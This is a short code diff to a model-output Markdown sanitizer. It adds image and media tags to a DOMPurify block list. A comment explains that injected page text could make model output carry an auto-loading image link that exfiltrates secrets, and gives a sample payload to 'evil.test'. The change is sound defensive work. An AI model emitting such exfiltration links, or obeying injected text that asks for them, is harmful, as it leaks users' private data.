@@ -7,6 +7,11 @@
 import DOMPurify from "dompurify";
 import { marked } from "marked";
 
+/**
+ * Images and media are dropped too: an image URL in model output loads by itself, which is how
+ * injected page text would smuggle data out (`![](https://evil.test/?q=<secret>)`). Links
+ * need a click.
+ */
 const FORBIDDEN_TAGS = [
   "style",
   "form",
@@ -17,6 +22,11 @@ const FORBIDDEN_TAGS = [
   "iframe",
   "object",
   "embed",
+  "img",
+  "picture",
+  "video",
+  "audio",
+  "source",
 ];
 
 DOMPurify.addHook("afterSanitizeAttributes", (node) => {
